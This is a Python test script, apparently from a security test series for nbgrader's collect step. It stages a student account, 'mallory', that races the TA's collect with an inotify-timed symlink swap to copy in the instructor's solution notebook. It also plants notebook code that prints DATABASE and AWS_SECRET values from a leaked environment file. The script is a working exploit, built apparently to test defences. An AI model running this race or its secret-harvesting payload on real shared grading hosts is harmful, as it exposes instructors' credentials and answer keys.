"""a29 (new code, SafeCollect): a20 aimed at the notebook itself: ps1_memory.ipynb (her unfilled release notebook when
listed) is replaced by a link to the course's source notebook at collect's listing. Original a20 text follows.
 copytree(symlinks=True) decides "link or file" from the scandir entry (d_type read
when the folder is listed) and then copies a file by its path, following links (copy2). mallory (account with a
shell on the host, as students of a shared exchange have) watches her own inbound folder with inotify (IN_OPEN: the
TA's collect opened it to list it) and at once renames a link to /proc/self/environ over `notes.txt`, a plain file
when it was listed. 20 files of 2 MB copied meanwhile widen the window. Does collect copy the TA's environment?"""
from lib import *
A = "ps1_memory"
subprocess.run(["useradd", "-M", "-N", "-u", "2002", "-s", "/usr/sbin/nologin", "mallory"], check=True)
try:
    d = make_course("a29")
    X = "/tmp/attack38-user-a29-exchange"
    if os.path.exists(X): shutil.rmtree(X)
    inbound = f"{X}/distcourse/inbound"; os.makedirs(inbound)
    chown(d); chown(X); os.chmod(f"{X}/distcourse", 0o755); os.chmod(inbound, 0o733)
    ts = "2026-11-29 11:00:00.000000 UTC"
    mal = release_nb(A)
    for cell in mal.cells:
        if cell.metadata.get("nbgrader", {}).get("grade_id") == "training_memory":
            cell.source = ("import os as _os\nif _os.path.exists('notes.txt'):\n    print('LEAK', [v for v in open('notes.txt','rb').read().split(b'\\0') if b'DATABASE' in v or b'AWS_SECRET' in v])\n" + cell.source)
    tmp = "/tmp/attack38-user-a29-mallory.ipynb"; nbformat.write(mal, tmp); os.chmod(tmp, 0o644)
    p = f"{inbound}/mallory+{A}+{ts}+r"
    N = int(os.environ.get("OPENS", "2"))
    racer = f'''
N = {N}
import os, shutil, ctypes, struct
p = {p!r}
os.mkdir(p); os.chmod(p, 0o755); shutil.copy({tmp!r}, p + "/{A}.ipynb")
for i in range(20): open(p + f"/big{{i:02d}}.bin", "wb").write(os.urandom(2 << 20))
pass
side = {inbound!r} + "/mallory-side"; os.mkdir(side); os.symlink({d!r} + "/source/{A}/{A}.ipynb", side + "/l")
libc = ctypes.CDLL(None, use_errno=True)
fd = libc.inotify_init(); libc.inotify_add_watch(fd, p.encode(), 0x20)
print("racer ready", flush=True)
opens = 0
while opens < N:           # collect opens the folder: os.walk for its size, then copytree's scandir
    buf = os.read(fd, 4096); i = 0
    while i < len(buf):
        wd, mask, cookie, ln = struct.unpack_from("iIII", buf, i); i += 16 + ln; opens += 1
os.rename(side + "/l", p + "/{A}.ipynb")
print("racer swapped", flush=True)
'''
    r = subprocess.Popen(["setpriv", "--reuid", "2002", "--regid", "100", "--clear-groups", sys.executable, "-c", racer],
                         stdout=subprocess.PIPE, text=True)
    print(r.stdout.readline().strip())
    c = subprocess.run(["setpriv", "--reuid", "65534", "--regid", "65534", "--clear-groups", CLONE + "/.venv/bin/nbgrader", "collect", A,
                        f"--Exchange.root={X}"], cwd=d, env=dict(ENV, PATH=CLONE + "/.venv/bin:" + ENV["PATH"], HOME="/tmp"), capture_output=True, text=True)
    print(r.stdout.readline().strip()); r.wait(10)
    print("collect rc", c.returncode, (c.stdout + c.stderr).strip().splitlines()[-1][:200])
    n = f"{d}/submitted/mallory/{A}/{A}.ipynb"
    if os.path.lexists(n):
        print("notes.txt in submitted: link" if os.path.islink(n) else "notes.txt in submitted: plain file", 
              (os.readlink(n) if os.path.islink(n) else open(n, "rb").read()[:60]))
        if not os.path.islink(n):
            print("BEGIN SOLUTION blocks in it:", open(n, "rb").read().count(b"BEGIN SOLUTION"))
    for s_ in ("aaron", "zoe"):
        hand_in(d, s_, A, honest(A))
    grade(d, A)
    scores(d)
    os.system(f"echo BEGIN SOLUTION in mallory feedback: $(grep -o 'BEGIN SOLUTION' {d}/feedback/mallory/{A}/{A}.html | wc -l)")
finally:
    subprocess.run(["userdel", "mallory"])
